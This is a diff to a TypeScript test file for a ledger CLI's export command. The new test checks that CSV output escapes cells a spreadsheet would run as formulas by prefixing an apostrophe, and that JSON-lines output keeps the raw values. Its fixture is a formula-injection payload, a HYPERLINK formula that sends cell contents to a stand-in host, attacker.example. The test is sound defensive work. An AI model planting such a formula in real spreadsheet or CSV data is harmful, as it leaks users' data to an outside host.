@@ -1,6 +1,7 @@
 // `cli ledger export`: a period's credits and adjustments, every account, oldest first, as JSON lines
-// or as CSV a spreadsheet (and the service's own CSV reader) reads back to the same values; totals
-// by currency on stderr; a command line that names no period is refused, writing nothing.
+// or as CSV a spreadsheet (and the service's own CSV reader) reads back to the same values, text that
+// would run as a formula kept as text; totals by currency on stderr; a command line that names no
+// period is refused, writing nothing.
 import { Readable } from 'node:stream';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { csvRows } from '../../src/reconcile/csv.js';
@@ -134,6 +135,43 @@ describe.each(backends())('ledger export on %s', (backend) => {
         .map((line) => asText(JSON.parse(line) as Record<string, string | number | null>)),
     );
     expect(csv.stdout.endsWith('\r\n')).toBe(true);
+  });
+
+  it('writes text a spreadsheet would run as a formula as text, and numbers as they are', async () => {
+    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"details")';
+    const store = await openStore(database.url);
+    try {
+      await store.addAccount({ customerId: '+77011234567', currency: 'KZT' });
+      const adjusted = await store.addAdjustment({
+        customerId: '+77011234567',
+        amount: 700,
+        reason: formula,
+        idempotencyKey: 'k-2',
+        actor: '@night-shift',
+      });
+      expect('adjustment' in adjusted).toBe(true);
+    } finally {
+      await store.close();
+    }
+    const csv = await runCli(['ledger', 'export', '--from', day(-1), '--to', day(1), '--format', 'csv'], env);
+    const rows: string[][] = [];
+    for await (const row of csvRows(Readable.from([csv.stdout]))) rows.push(row.fields);
+    const [header, ...lines] = rows;
+    const cells = (line: string[] | undefined) => Object.fromEntries(header!.map((column, i) => [column, line?.[i]]));
+    expect(cells(lines.at(-2))).toMatchObject({ customer_id: 'acc-1', amount: '-4000', reason: REASON });
+    expect(cells(lines.at(-1))).toMatchObject({
+      customer_id: "'+77011234567",
+      amount: '700',
+      actor: "'@night-shift",
+      reason: `'${formula}`,
+    });
+
+    const jsonl = await runCli(['ledger', 'export', '--from', day(-1), '--to', day(1)], env);
+    expect(JSON.parse(jsonl.stdout.trim().split('\n').at(-1)!)).toMatchObject({
+      customer_id: '+77011234567',
+      actor: '@night-shift',
+      reason: formula,
+    });
   });
 
   it('refuses a command line without a period it can read, with its usage, exit 2', async () => {
